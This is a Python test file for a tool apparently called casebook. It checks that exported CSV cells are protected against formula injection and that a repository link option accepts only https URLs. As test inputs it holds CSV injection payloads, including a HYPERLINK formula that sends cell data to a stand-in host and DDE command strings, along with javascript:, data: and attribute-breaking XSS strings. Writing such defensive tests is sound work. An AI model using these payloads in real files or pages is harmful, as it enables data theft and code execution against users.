"""Issue 13 kind 9: what casebook writes for other programs cannot be turned against them.

The register's CSV is opened in Excel: a cell starting with = + - @ tab or CR is a formula
there (OWASP "CSV Injection"), so it is written with a leading single quote. The site's links
to pull requests start with --repo-url: only an https:// address is taken.
"""

from __future__ import annotations

import csv
import io

import pytest

from casebook.cli.site import https_url
from casebook.publish.register import csv_safe
from casebook.publish.site.case_page import approved
from tests.unit.test_retention import closed_case
from tests.unit.timed import Book

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_are_quoted(value):
    assert csv_safe(value) == "'" + value
    assert csv_safe("Planning") == "Planning" and csv_safe("") == ""


def test_register_csv_from_hostile_records(cli, tmp_path):
    tb = Book(tmp_path / "book")
    tb.write(closed_case(service=HOSTILE[0]))
    res = cli("--root", tb.root, "register", "--as-of", "2026-07-01", "--format", "csv")
    assert res.code == 0, res.err
    rows = list(csv.reader(io.StringIO(res.out)))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + HOSTILE[0] in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.cookie)",
        "JavaScript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "http://github.com/council/casebook",
        "https://",
        'https://github.com/x" onmouseover="alert(1)',
        "https://github.com/x\nSet-Cookie: a",
        "//github.com/council/casebook",
    ],
)
def test_repo_url_must_be_https(cli, mini, url):
    res = cli("--root", mini, "site", "build", "--repo-url", url, "--as-of", "2026-04-01")
    assert res.code == 2 and "--repo-url" in res.err and "https://" in res.err
    assert approved("#31", url).startswith("#31") or "href" not in approved("#31", url)


def test_https_repo_url_is_a_link():
    assert https_url("https://github.com/council/casebook", "--repo-url")
    assert 'href="https://github.com/council/casebook/pull/31"' in approved(
        "#31", "https://github.com/council/casebook"
    )
    assert "href" not in approved("#31", "javascript:alert(1)")
